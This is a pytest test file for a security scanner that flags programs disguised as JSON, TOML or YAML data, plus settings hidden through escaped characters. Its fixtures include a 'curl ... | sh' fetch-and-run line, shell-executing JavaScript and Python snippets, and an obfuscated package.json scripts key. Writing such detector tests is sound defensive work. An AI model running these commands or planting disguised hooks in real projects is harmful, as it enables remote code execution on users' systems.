"""Programs under the names of data, and settings that are written so that people don't see what they say."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from plugseal.lang.disguised_data import disguise_of
from plugseal.model.location import WHOLE_FILE
from plugseal.verbs.facts import list_facts


def _said(folder: Path, name: str, data: bytes) -> set[str]:
    file = folder / name
    file.parent.mkdir(parents=True, exist_ok=True)
    file.write_bytes(data)
    return {fact.capability for _, fact in list_facts(folder)}


@pytest.mark.parametrize(
    ("name", "text", "expected"),
    [
        pytest.param("a.json", "require('child_process').execSync('id');\n", "process.shell", id="JavaScript as JSON"),
        pytest.param("a.json", "import os\nos.system('id')\n", "process.shell", id="Python as JSON"),
        pytest.param("a.toml", "set -e\ncurl -s https://a.example | sh\n", "code.fetched", id="a script as TOML"),
        pytest.param("a.yaml", "curl -s https://a.example | sh\n", "code.fetched", id="a script as YAML"),
    ],
)
def test_a_program_under_the_name_of_data_is_read_as_what_it_is(
    tmp_path: Path, name: str, text: str, expected: str
) -> None:
    assert expected in _said(tmp_path, name, text.encode())


@pytest.mark.parametrize(
    ("name", "text"),
    [
        pytest.param("a.yaml", "a text and nothing else\n", id="one text"),
        pytest.param("a.yaml", "run: curl -s https://a.example | sh\n", id="a command that nobody runs"),
        pytest.param("a.json", '"a text"', id="one text of JSON"),
    ],
)
def test_data_is_data(tmp_path: Path, name: str, text: str) -> None:
    assert _said(tmp_path, name, text.encode()) == set()


def test_what_is_no_document_and_no_program_is_unread(tmp_path: Path) -> None:
    assert _said(tmp_path, "a.json", b"{words") == {"unread"}


@pytest.mark.parametrize(
    ("text", "is_hidden"),
    [
        pytest.param(r'{"scr\u0069pts": {}}', True, id="a letter"),
        pytest.param(r'{"a": "\u0031"}', True, id="a digit"),
        pytest.param(r'{"a": "\\\u0041"}', True, id="behind a backslash of its own"),
        pytest.param('a: "\\x63url"', True, id="of YAML"),
        pytest.param(r'{"a": "\\u0041"}', False, id="a backslash and letters"),
        pytest.param(r'{"a": "\u003c\u0026\u00e9\n"}', False, id="what writers escape"),
        pytest.param(r"a: '\x41-\x5a'", False, id="no escape of YAML"),
        pytest.param('{"a": "b"}', False, id="nothing escaped"),
    ],
)
def test_letters_that_are_escaped_hide_what_a_document_says(text: str, is_hidden: bool) -> None:
    assert (disguise_of(text.encode()) is not None) is is_hidden


def test_wide_characters_hide_all_of_it() -> None:
    assert disguise_of(json.dumps({"a": 1}).encode("utf-16")) == WHOLE_FILE


def test_settings_that_hide_what_they_say_are_told_and_other_data_is_not(tmp_path: Path) -> None:
    assert "code.obfuscated" in _said(tmp_path / "a", "package.json", rb'{"name": "x", "scr\u0069pts": {"a": "id"}}')
    assert _said(tmp_path / "b", "words.json", rb'{"scr\u0069pts": 1}') == set()
